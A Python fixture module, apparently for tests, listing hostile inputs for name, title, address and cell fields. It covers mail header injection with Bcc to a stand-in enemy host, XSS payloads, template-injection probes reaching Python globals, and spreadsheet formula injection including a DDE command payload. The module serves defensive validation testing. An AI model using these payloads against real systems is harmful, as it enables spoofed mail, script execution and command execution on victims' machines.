"""What somebody may type in a name, a title, an address or a cell to make it act."""

HEADERS = (
    "Anne\r\nBcc: tous@ennemi.example", "Anne\nSubject: autre", "Anne\rTo: x@y.example",
    "Anne\r\n\r\n<b>corps</b>", "Anne\x0bBcc: x", "Anne\x0cBcc: x", "Anne\u2028Bcc: x",
    "Anne\u2029Bcc: x", "Anne\x85Bcc: x", "Anne\x00Bcc: x", "Anne%0d%0aBcc: x@y.example",
    "=?utf-8?q?Bcc=3A_x?=", "\u202eecila", "Anne\u2066\u202eelif\u2069", "\ufeffAnne\u200b",
)  # fmt: skip
HTML = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></tr></table><h1>Faux</h1>",
    '"><a href="https://ennemi.example">cliquez</a>', "' onmouseover='alert(1)", "<!-- ",
    "--><b>", "<style>*{display:none}</style>", "<iframe src=//ennemi.example>", "&lt;b&gt;",
    "&#60;script&#62;", "<svg/onload=alert(1)>", "javascript:alert(1)", "</title><script>",
    "<meta http-equiv=refresh content=0>", "<form action=//e.example><input>", "]]><x/>",
    "<base href=//ennemi.example>", "<![endif]--><b>", "<o:p></o:p>",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{% for x in range(9) %}x{% endfor %}", "{{ context }}", "{{ ''.__class__ }}",
    "{{ mail.__init__.__globals__ }}", "{# rien #}", "{%- set a=1 -%}", "${7*7}", "#{7*7}",
    "{{ request }}", "{% include 'mails/_base.html' %}", "{% raw %}", "%(subject)s",
    "{0.__class__}",
)  # fmt: skip
FORMULAS = (
    "=1+1", '=HYPERLINK("https://ennemi.example";"ok")', "+33 6 12", "-1", "@SUM(A1)", "\t=1+1",
    "=IMPORTXML(1)", "=cmd|'/C calc'!A0", "＝1+1", "%0A=1+1",
    "a?subject=x&body=y&bcc=z@ennemi.example", "mailto:x@y.example?cc=z", "tel:0600000000",
)  # fmt: skip
HOSTILE = (*HEADERS, *HTML, *TEMPLATES, *FORMULAS)
